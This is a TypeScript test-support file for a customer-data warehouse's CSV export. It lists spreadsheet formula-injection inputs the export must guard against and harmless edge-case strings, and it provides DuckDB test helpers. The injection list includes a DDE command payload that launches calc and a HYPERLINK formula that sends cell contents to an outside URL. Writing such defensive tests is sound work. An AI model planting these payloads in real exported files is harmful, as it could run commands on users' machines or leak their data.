import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { onTestFinished } from 'vitest';
import { openDuckdb, type DuckdbOptions } from '../../src/engine/duckdb.ts';
import type { Engine } from '../../src/engine/engine.ts';
import { raw } from '../../src/sql/sql.ts';
import { bindAll, createGiven, settings, type Columns, type GivenRow } from '../support/given.ts';

/** Spreadsheet tricks of OWASP and others; every one must come out guarded. */
export const formulas = [
  '=1+1',
  '+1+1',
  '+1\n',
  '+',
  '-1',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '\n=1',
  '\ttext',
  '\rtext',
  '\ntext',
  ' =1+1',
  ' \u00a0 =1',
  '\u3000+1',
  '\ufeff=1',
  '\u0000=1',
  '\u001b=1',
  '\u2028=1',
  '\u00ad-1',
  '\u200e@a',
  '"=1+1',
  '"" =1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠a',
  ' ＝cmd',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://example.org?"&A1,"click")',
  '+34-1',
  '+34 600-000-000',
  '+(34) 600',
  '+34(1)',
  '+34  600',
  '+34 600 ',
  '+34 600\n=1+1',
  '+34\u00a0600',
  '+34.5',
  '+34/7',
  '+ 34',
  ' +34 600',
  '++34',
  '-34 600',
];

/** Text that is hard on files, but runs nowhere; it must come out as it went in. */
export const harmless = [
  'Ane',
  '007',
  'a,b;c\td',
  'two\r\nlines',
  'two\nlines',
  'a "quoted" word',
  '"quoted"',
  "O'Hara; drop table marts.customer; --",
  'יעל "לוי" (תל אביב)',
  'Iñaki Etxeberria',
  '\u2028\u2029',
  '\u202eabc',
  '1=2',
  '+1',
  '+34 000 043 747',
  '+34600000000',
  'a@b.eus',
  'x'.repeat(10_000),
];

let known: ReadonlyMap<string, Columns> | undefined;

/** The columns of every relation, as the `.sql` files make them. */
async function columnsOf(relation: string): Promise<Columns> {
  if (known === undefined) {
    const engine = await openDuckdb();
    known = await bindAll(engine);
    await engine.close();
  }
  return known.get(relation)!;
}

const always = { is_prospect: false, is_listed: true, profit: 0, net_revenue: 0, monetary: 0 };

/** Fills a warehouse with nothing but customers and segments. */
export async function fillShop(
  engine: Engine,
  customers: readonly GivenRow[],
  segments: readonly GivenRow[] = [],
): Promise<void> {
  const given = {
    'marts.customer': customers.map((row) => ({ ...always, ...reachableOf(row), ...row })),
    'warehouse.setting': settings['warehouse.setting']!,
    'segments.segment': segments,
  };
  for (const [relation, rows] of Object.entries(given))
    await createGiven(engine, relation, await columnsOf(relation), rows);
}

/** What warehouse.customer says of the addresses of a row. */
const reachableOf = ({ email, phone, city, postal_code: code }: GivenRow) => ({
  has_email: email != null,
  has_phone: phone != null,
  has_post: city != null || code != null,
});

/** A warehouse that holds nothing but customers and segments, until the test ends. */
export async function shopOf(
  customers: readonly GivenRow[],
  segments: readonly GivenRow[] = [],
  options: DuckdbOptions = {},
): Promise<Engine> {
  const engine = await openDuckdb(options);
  onTestFinished(() => engine.close());
  await fillShop(engine, customers, segments);
  return engine;
}

/** As many customers as asked for, made by the engine. */
export async function manyCustomers(count: number): Promise<Engine> {
  const engine = await shopOf(
    [{ customer_id: 'pattern', segment: 's1', segment_name: 'All' }],
    [{ segment: 's1', name: 'All' }],
  );
  await engine.create(
    'marts.customer',
    raw(`select pattern.* replace ('c' || i as customer_id, cast(i % 97 as decimal(18, 4)) as monetary)
      from marts.customer as pattern cross join range(${count}) as series (i)`),
  );
  return engine;
}

/** A folder that is removed when the test ends. */
export function folder(): string {
  const path = mkdtempSync(join(tmpdir(), 'bezero-'));
  onTestFinished(() => {
    rmSync(path, { recursive: true, force: true });
  });
  return path;
}

/** The records of a CSV as a spreadsheet takes them, by header. */
export function recordsOf(file: string): Record<string, string>[] {
  return parse(readFileSync(file), { bom: true, columns: true, record_delimiter: '\r\n' });
}

/** An engine that counts the rows which come to TypeScript. */
export function counting(engine: Engine): { readonly engine: Engine; rows(): number } {
  let crossed = 0;
  const counted: Engine = Object.create(engine, {
    rows: {
      value: async (...parameters: Parameters<Engine['rows']>) => {
        const rows = await engine.rows(...parameters);
        crossed += rows.length;
        return rows;
      },
    },
    chunks: {
      value: () => {
        throw new Error('no chunk may come to TypeScript');
      },
    },
    unload: { value: (...parameters: Parameters<Engine['unload']>) => engine.unload(...parameters) },
    check: { value: (...parameters: Parameters<Engine['check']>) => engine.check(...parameters) },
  }) as Engine;
  return { engine: counted, rows: () => crossed };
}
